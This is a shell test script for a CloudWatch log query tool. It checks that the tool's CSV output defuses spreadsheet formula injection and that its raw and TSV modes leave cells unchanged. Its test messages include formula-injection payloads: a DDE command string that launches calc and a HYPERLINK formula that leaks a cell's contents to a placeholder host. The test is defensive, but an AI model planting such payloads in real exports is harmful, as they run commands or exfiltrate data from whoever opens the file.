#!/bin/sh
# cw-query -o csv: a log line a spreadsheet would run as a formula is
# written with a leading ', unless --csv-raw; numbers and the header are
# left as they are.
. "$(dirname "$0")/query.sh"

call CreateLogGroup '{"logGroupName": "/app/csv"}'
call CreateLogStream '{"logGroupName": "/app/csv", "logStreamName": "s1"}'
python3 - "$now" >"$T/events" <<'PY'
import json, sys
now = int(sys.argv[1])
msgs = ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1",
        "\r=1", "-12.5", "a=1", '=HYPERLINK("http://x/?"&A1,"y")']
print(json.dumps({"logGroupName": "/app/csv", "logStreamName": "s1",
                  "logEvents": [{"timestamp": now - 60000 + i * 1000,
                                 "message": m} for i, m in enumerate(msgs)]}))
PY
call PutLogEvents "$(cat "$T/events")"
q='fields @message | sort @timestamp asc'

run cw-query -g /app/csv -o csv "$q"
is "$rc" 0 "-o csv: exit 0"
printf '%s\n' '@message' "'=1+2" "'+cmd|' /C calc'!A0" "'-2+3" \
	"\"'@SUM(1,2)\"" "'	=1" "\"'$(printf '\r')=1\"" '-12.5' 'a=1' \
	"\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")\"" >"$T/want"
is "$(od -c "$T/out")" "$(od -c "$T/want")" \
	"-o csv: = + - @ tab CR lead to a ', numbers and the header kept"

run cw-query -g /app/csv -o csv --csv-raw "$q"
is "$rc" 0 "--csv-raw: exit 0"
printf '%s\n' '@message' '=1+2' "+cmd|' /C calc'!A0" '-2+3' \
	'"@SUM(1,2)"' '	=1' "\"$(printf '\r')=1\"" '-12.5' 'a=1' \
	'"=HYPERLINK(""http://x/?""&A1,""y"")"' >"$T/want"
is "$(od -c "$T/out")" "$(od -c "$T/want")" \
	"--csv-raw: the cells as they are, RFC 4180 quoting only"

run cw-query -g /app/csv -o tsv "$q"
is "$(head -n 2 "$T/out")" '@message
=1+2' "-o tsv: left as it is (for awk and cut, not spreadsheets)"

done_testing
